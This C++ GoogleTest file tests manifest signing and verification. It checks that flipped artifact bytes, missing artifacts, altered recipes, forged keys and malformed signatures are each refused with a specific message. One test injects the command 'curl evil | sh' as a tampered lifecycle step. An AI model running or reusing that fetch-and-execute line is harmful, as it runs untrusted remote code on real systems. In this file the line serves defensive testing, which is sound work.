// Acceptance 3 of issue 18 at the library level: each tampering refused, naming what failed.
#include <map>

#include "gtest/gtest.h"
#include "test_util.h"
#include "vqi/base/hash.h"
#include "vqi/signing/manifest.h"

namespace vqi::signing {
namespace {

using testing::TempDir;

class VerifyTest : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_TRUE(keys_.Create("acme").ok());
    content_["model.onnx"] = std::string(1000, 'm');
    content_["run.sh"] = "#!/bin/sh\necho hi\n";
    Manifest m;
    m.component = "vqi.model.tags";
    m.version = "1.0.0";
    m.publisher = "Acme";
    m.recipe = Json{{"ComponentName", "vqi.model.tags"},
                    {"ComponentVersion", "1.0.0"},
                    {"Manifests", Json::array({Json{{"Lifecycle", {{"run", "echo hi"}}}}})}};
    for (const auto& [name, bytes] : content_)
      m.artifacts.push_back({name, "s3://bucket/" + name, Sha256Hex(bytes),
                             static_cast<int64_t>(bytes.size()), "NONE"});
    auto s = SignManifest(keys_, "acme", m);
    ASSERT_TRUE(s.ok()) << s.status().ToString();
    signed_ = *s;
    auto t = keys_.Trusted();
    ASSERT_TRUE(t.ok());
    trusted_ = *t;
  }

  ArtifactHasher Hasher() {
    return [this](const ManifestArtifact& a) -> Result<std::string> {
      auto it = content_.find(a.name);
      if (it == content_.end()) return NotFound("no content for " + a.name);
      return Sha256Hex(it->second);
    };
  }

  Status Check(const Manifest& m, std::string_view sig) {
    return Verify(m, sig, trusted_, Hasher());
  }

  TempDir home_;
  KeyStore keys_{home_.path()};
  std::map<std::string, std::string> content_;
  SignedManifest signed_;
  TrustedKeys trusted_;
};

TEST_F(VerifyTest, SignedManifestVerifies) {
  EXPECT_EQ(signed_.signature.size(), kSignatureBytes);
  EXPECT_EQ(signed_.manifest.key_id, keys_.Public("acme")->key_id);
  Status st = Check(signed_.manifest, signed_.signature);
  EXPECT_TRUE(st.ok()) << st.ToString();
  // A device receives the bytes: parsing them gives a manifest that verifies too.
  auto parsed = ParseManifest(signed_.bytes);
  ASSERT_TRUE(parsed.ok()) << parsed.status().ToString();
  EXPECT_TRUE(Check(*parsed, signed_.signature).ok());
}

TEST_F(VerifyTest, FlippedByteInAnArtifactNamesTheArtifact) {
  const std::string expected = Sha256Hex(content_["model.onnx"]);
  content_["model.onnx"][500] ^= 0x01;
  Status st = Check(signed_.manifest, signed_.signature);
  EXPECT_EQ(st.code(), StatusCode::kDataLoss);
  EXPECT_EQ(st.message(), "artifact model.onnx: content hashes to " +
                              Sha256Hex(content_["model.onnx"]) + ", manifest says " + expected);
}

TEST_F(VerifyTest, MissingArtifact) {
  content_.erase("run.sh");
  Status st = Check(signed_.manifest, signed_.signature);
  EXPECT_EQ(st.code(), StatusCode::kDataLoss);
  EXPECT_EQ(st.message().rfind(
                "artifact missing: run.sh (blob " + signed_.manifest.artifacts[1].digest, 0),
            0u)
      << st.message();
}

TEST_F(VerifyTest, ChangedRecipeIsRefused) {
  Manifest m = signed_.manifest;
  m.recipe["Manifests"][0]["Lifecycle"]["run"] = "curl evil | sh";
  Status st = Check(m, signed_.signature);
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_EQ(st.message().rfind(
                "signature does not match the manifest (recipe or artifact list changed)", 0),
            0u)
      << st.message();
}

TEST_F(VerifyTest, ChangedArtifactListIsRefused) {
  // Swapping in other content together with its digest: the artifacts alone would check out.
  for (int variant = 0; variant < 3; ++variant) {
    Manifest m = signed_.manifest;
    if (variant == 0) {
      content_["model.onnx"] = "evil";
      m.artifacts[0].digest = Sha256Hex("evil");
    } else if (variant == 1) {
      m.artifacts.pop_back();
    } else {
      m.artifacts[0].size += 1;
    }
    Status st = Check(m, signed_.signature);
    EXPECT_EQ(st.code(), StatusCode::kPermissionDenied) << variant;
    EXPECT_NE(st.message().find("recipe or artifact list changed"), std::string::npos)
        << st.message();
  }
}

TEST_F(VerifyTest, WrongKeyIsRefused) {
  TempDir other_home;
  KeyStore other(other_home.path());
  auto mallory = other.Create("mallory");
  ASSERT_TRUE(mallory.ok());
  auto s = SignManifest(other, "mallory", signed_.manifest);
  ASSERT_TRUE(s.ok());
  Status st = Check(s->manifest, s->signature);
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_EQ(st.message().rfind("signed by unknown key " + mallory->key_id + " (trusted: ", 0), 0u)
      << st.message();

  // Claiming a trusted key's id while signing with another key.
  Manifest claimed = s->manifest;
  claimed.key_id = signed_.manifest.key_id;
  auto bytes = CanonicalManifest(claimed);
  ASSERT_TRUE(bytes.ok());
  auto forged = other.Sign("mallory", *bytes);
  ASSERT_TRUE(forged.ok());
  st = Check(claimed, *forged);
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_NE(st.message().find("signature does not match the manifest"), std::string::npos);
}

TEST_F(VerifyTest, MissingOrMalformedSignature) {
  Status st = Check(signed_.manifest, "");
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_EQ(st.message(), "unsigned: vqi.model.tags@1.0.0 has no signature");
  st = Check(signed_.manifest, signed_.signature.substr(0, 63));
  EXPECT_EQ(st.code(), StatusCode::kDataLoss);
  EXPECT_NE(st.message().find("malformed (63 bytes, expected 64)"), std::string::npos);
  std::string flipped = signed_.signature;
  flipped[10] ^= 0x80;
  st = Check(signed_.manifest, flipped);
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_NE(st.message().find("signature does not match"), std::string::npos);
}

TEST_F(VerifyTest, NoTrustedKeys) {
  Status st = Verify(signed_.manifest, signed_.signature, TrustedKeys{}, Hasher());
  EXPECT_EQ(st.code(), StatusCode::kPermissionDenied);
  EXPECT_NE(st.message().find("(trusted: none)"), std::string::npos) << st.message();
}

}  // namespace
}  // namespace vqi::signing
